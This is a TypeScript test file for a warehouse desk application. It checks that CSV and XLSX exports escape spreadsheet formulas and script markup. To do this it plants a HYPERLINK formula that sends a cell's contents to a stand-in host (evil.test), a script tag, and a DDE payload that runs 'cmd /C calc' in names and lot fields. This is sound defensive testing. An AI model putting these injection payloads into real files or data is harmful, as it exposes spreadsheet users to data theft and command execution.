import { parse } from 'csv-parse/sync'
import { unzipSync } from 'fflate'
import { sql } from 'kysely'
import * as v from 'valibot'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Document } from '../../../shared/catalogue.ts'
import { EXPORTS } from '../../../shared/desk/export.ts'
import type { ExportName } from '../../../shared/desk/export.ts'
import { stocktakeDoneSchema } from '../../../shared/desk/stocktake.ts'
import { derivedId } from '../../../shared/ids.ts'
import { NOTHING } from '../../../shared/ledger/effects.ts'
import { deskApp, PASSWORD } from '../../../test/support/desk-app.ts'
import { nextRoster, signRoster } from '../../auth/roster.ts'
import { browserOf } from './test-browser.ts'

/** What a spreadsheet would run, and what a page would. */
const TEXT = '=HYPERLINK("https://evil.test/?"&A1;"<script>alert(1)</script>")'
const CODE = "@SUM(1+9)*cmd|' /C calc'!A0"

describe('texts that nobody of us has written, in files', async () => {
  const desk = await deskApp()
  afterAll(() => desk.close())
  const { app, people, site, stores } = desk
  const warehouse = site.warehouse.id
  const [client] = site.clients
  const item = site.items.find(one => one.tracking.lot && one.client === client?.id)
  if (!client || !item) throw new Error('no site')
  const who = { ...people.sevda, name: TEXT, roles: ['supervisor', 'administrator'] as const }
  const page = browserOf(app.app, '10.0.7.1')
  const document = (kind: Document['kind']): Document => ({
    id: derivedId('document', 'hostile', kind),
    kind,
    client: client.id,
    number: CODE,
    partner: TEXT,
    due: '2026-11-25',
    priority: 0,
    blind: false,
    state: 'open',
  })
  beforeAll(async () => {
    await desk.account(who, 'sevda')
    const held = await stores.site.roster(warehouse)
    const workers = (held?.roster.workers ?? []).map(one =>
      one.id === who.id ? { ...who, roles: [...who.roles] } : one,
    )
    const roster = nextRoster({ warehouse, version: held?.roster.version ?? 0, workers }, app.deps.now(), 7)
    await stores.site.putRoster(warehouse, roster, signRoster(app.deps.serverKey, roster))
    const key = desk.key()
    const lot = { ...key, item: item.id, client: client.id, lot: CODE }
    const known = {
      client: client.id,
      item: item.id,
      lot: CODE,
      expiry: '2026-12-01',
      firstReceivedAt: null,
      blocked: false,
    }
    const documents = (['order', 'receipt', 'return'] as const).map(document)
    await desk.facts([{ ...NOTHING, lots: [known], documents, movements: desk.arrived(12, lot).movements }], who)
    await desk.facts([desk.counted(9, lot)], who)
    await stores.audit.note({ warehouse, at: app.deps.now(), worker: who.id, kind: 'file', subject: TEXT, body: {} })
    for (const [table, body] of [
      ['item', { name: TEXT, sku: CODE, unit: TEXT }],
      ['location', { code: CODE }],
    ] as const)
      await sql`update ${sql.table(table)} set body = body || ${JSON.stringify(body)}::jsonb`.execute(desk.opened.db)
    await sql`update client set name = ${TEXT}`.execute(desk.opened.db)
    await page.logIn('sevda', PASSWORD)
    const take = { act: 'open', id: derivedId('decision', 'hostile', 'take'), zones: [], blind: false }
    const opened = v.parse(stocktakeDoneSchema, await (await page.post('/api/desk/stocktake', take)).json())
    MORE.stocktake = { id: opened.stocktake ?? '' }
  })

  const MORE: Partial<Record<ExportName, Record<string, string>>> = {
    movements: { item: item.id },
    recall: { client: client.id, item: item.id, lot: CODE },
    past: { day: '2026-11-23', by: 'place' },
  }
  const file = async (list: ExportName, format: string, language: string): Promise<Response> => {
    const query = new URLSearchParams({ list, format, language, ...MORE[list] }).toString()
    const answer = await page.get(`/api/desk/export?${query}`)
    expect([list, answer.status]).toEqual([list, 200])
    return answer
  }

  it.each(EXPORTS)(
    '[XP8] %s: no cell of its CSV begins as a formula does, whoever wrote it; numbers stay numbers',
    async list => {
      for (const language of ['en', 'tr']) {
        const rows: string[][] = parse(await (await file(list, 'csv', language)).text(), {
          delimiter: language === 'tr' ? ';' : ',',
        })
        const cells = rows.flat()
        const formulas = cells.filter(cell => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+([.,]\d+)?$/.test(cell))
        expect(formulas).toEqual([])
        // A list without them would show nothing; a stocktake that has just begun has no differences yet.
        if (list !== 'stocktake') expect(cells.some(cell => cell === `'${TEXT}` || cell === `'${CODE}`)).toBe(true)
      }
    },
  )

  it.each(EXPORTS)('[XP8] %s: its spreadsheet holds no formula and no markup but its own', async list => {
    const parts = unzipSync(new Uint8Array(await (await file(list, 'xlsx', 'en')).arrayBuffer()))
    const xml = Object.entries(parts)
      .filter(([name]) => name.endsWith('.xml'))
      .map(([, bytes]) => new TextDecoder().decode(bytes))
      .join('')
    expect(xml).not.toMatch(/<f[ >]|<script/)
    if (list !== 'stocktake') expect(xml).toMatch(/&lt;script&gt;|@SUM/)
  })
})
